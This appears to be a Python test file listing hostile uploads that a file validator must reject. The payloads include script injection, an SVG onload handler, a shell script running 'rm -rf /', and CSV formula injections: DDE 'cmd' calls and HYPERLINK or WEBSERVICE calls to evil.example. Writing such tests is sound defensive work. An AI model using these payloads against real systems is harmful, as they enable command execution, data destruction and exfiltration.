"""Text and values that act, and files of kinds that are not accepted."""

import gzip

from tests.pictures import drawing, saved
from tests.security.hostile.cases import refused
from tests.security.hostile.zips import zipped


@refused("not_accepted", "notes.txt")
def page() -> bytes:
    return b"<!DOCTYPE html><script>alert(1)</script>"


@refused("script", "notes.txt")
def script_after_words() -> bytes:
    return b"Dear all,\n<script>alert(1)</script>"


@refused("not_accepted", "notes.txt")
def page_in_wide_letters() -> bytes:
    return "<html><script>alert(1)</script>".encode("utf-16")


@refused("not_accepted", "notes.txt")
def drawing_with_script() -> bytes:
    return b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'


@refused("not_accepted", "notes.txt")
def rich_text() -> bytes:
    return b"{\\rtf1\\ansi{\\*\\template https://evil.example/a.dotm}}"


@refused("not_accepted", "notes.txt")
def postscript() -> bytes:
    return b"%!PS-Adobe-3.0\n(a) run"


@refused("not_accepted", "notes.txt")
def shell_script() -> bytes:
    return b"#!/bin/sh\nrm -rf /"


@refused("not_accepted", "notes.txt")
def program() -> bytes:
    return b"MZ\x90\0\3\0\0\0" + b"\0" * 200


@refused("not_accepted", "notes.txt")
def program_behind_words() -> bytes:
    return b"Words " * 2000 + b"\0\1\2\3"


@refused("empty", "notes.txt")
def nothing() -> bytes:
    return b""


@refused("formula", "values.csv")
def formula() -> bytes:
    return b"name,amount\nA,=SUM(A1)\n"


@refused("formula", "values.csv")
def formula_between_semicolons() -> bytes:
    return b'name;amount\nA;=HYPERLINK("https://evil.example/")\n'


@refused("formula", "values.csv")
def another_program() -> bytes:
    return b"name,amount\nA,@SUM(1)|cmd!A0\nB,+cmd|'/c calc'!A0\n"


@refused("formula", "values.csv")
def function_behind_a_value() -> bytes:
    return b'name,amount\nA,+A1+HYPERLINK("https://evil.example/"&A1)\n'


@refused("formula", "values.csv")
def function_within_brackets() -> bytes:
    return b'name,amount\nA,-(WEBSERVICE("https://evil.example/"))\n'


@refused("formula", "values.csv")
def cell_of_another_file() -> bytes:
    return b"name,amount\nA,+'\\\\evil.example\\share\\[a.xlsx]Sheet1'!A1\n"


@refused("formula", "values.csv")
def separator_of_its_own() -> bytes:
    return b"sep=^\r\nA^=cmd|'/c calc'!A0\r\n"


@refused("not_accepted", "values.csv")
def binary_values() -> bytes:
    return b"a,b\n\0\1\2,\3"


@refused("not_accepted", "files.zip")
def archive() -> bytes:
    return zipped({"a.txt": "hello"})


@refused("not_accepted", "sound.mp3")
def sound() -> bytes:
    return b"ID3\3\0\0\0\0\0\x0f" + b"\xff\xfb\x90\0" * 40


@refused("not_accepted", "video.pdf")
def video() -> bytes:
    return b"\0\0\0\x18ftypmp42" + b"\0" * 200


@refused("not_accepted", "photo.pdf")
def photograph() -> bytes:
    return saved(drawing(), "JPEG")


@refused("not_accepted", "notes.txt.gz")
def packed_text() -> bytes:
    return gzip.compress(b"hello")
